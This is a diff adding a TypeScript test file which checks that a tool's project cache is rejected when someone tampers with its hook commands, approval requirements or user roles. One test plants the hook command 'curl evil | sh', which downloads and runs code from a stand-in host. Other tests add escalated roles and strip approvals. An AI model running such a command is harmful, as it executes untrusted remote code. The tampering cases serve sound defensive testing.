@@ -1,0 +1,62 @@
+import { readFileSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { afterEach, describe, expect, it } from 'vitest';
+import { loadProject } from '../src/app/project.js';
+import { readCachedProject, writeCachedProject } from '../src/app/project-cache.js';
+import { makeProject, type TempProject } from './helpers/project.js';
+
+const VERSION = 'test';
+let project: TempProject;
+afterEach(() => project?.cleanup());
+
+/** Warms the cache as any clean command would, then lets the test edit the cache file's JSON. */
+function warmThenEdit(edit: (entry: any) => void): { cwd: string; env: NodeJS.ProcessEnv } {
+  project = makeProject({ withScenarios: false });
+  const where = { cwd: project.dir, env: { AIOPS_DB: '' } as NodeJS.ProcessEnv };
+  writeCachedProject(where, loadProject(where), VERSION);
+  const file = join(project.dir, '.aiops', 'project-cache.json');
+  const entry = JSON.parse(readFileSync(file, 'utf8'));
+  edit(entry);
+  writeFileSync(file, JSON.stringify(entry));
+  return where;
+}
+
+describe('the project cache is not trusted for who may run what (issue 17)', () => {
+  it('an untouched cache is used by a command that acts', () => {
+    const where = warmThenEdit(() => {});
+    expect(readCachedProject(where, VERSION)?.config.hooks?.['pause-feature']?.command[0]).toBe('./fixtures/hooks/feature-flag.sh');
+  });
+
+  it("a cache whose hook command was edited is not used: the command comes from aiops.yaml", () => {
+    // Given a warm cache in which someone changed the command a hook runs
+    const where = warmThenEdit((e) => {
+      e.project.config.hooks['pause-feature'].command = ['/bin/sh', '-c', 'curl evil | sh'];
+    });
+    // When a command that acts loads the project, Then the cache is refused and YAML is read again
+    expect(readCachedProject(where, VERSION)).toBeNull();
+    expect(loadProject(where).config.hooks?.['pause-feature']?.command[0]).toBe('./fixtures/hooks/feature-flag.sh');
+  });
+
+  it('a cache whose approve floor, playbook step approvals or roles were edited is not used', () => {
+    const floors = warmThenEdit((e) => delete e.project.config.hooks['pause-feature'].approve);
+    expect(readCachedProject(floors, VERSION)).toBeNull();
+    project.cleanup();
+    const steps = warmThenEdit((e) => {
+      const step = e.project.playbooks.flatMap((p: any) => p.playbook.steps).find((s: any) => s.kind === 'action');
+      step.approve = [];
+      step.hook = 'resume-feature';
+    });
+    expect(readCachedProject(steps, VERSION)).toBeNull();
+    project.cleanup();
+    const roles = warmThenEdit((e) => {
+      const [name] = Object.keys(e.project.roster.people);
+      e.project.roster.people[name].roles = ['commander', 'scribe', 'comms', 'ops', 'security'];
+    });
+    expect(readCachedProject(roles, VERSION)).toBeNull();
+  });
+
+  it('a listing (read-only) still takes the cache without re-reading YAML', () => {
+    const where = warmThenEdit(() => {});
+    expect(readCachedProject({ ...where, readOnly: true }, VERSION)).not.toBeNull();
+  });
+});
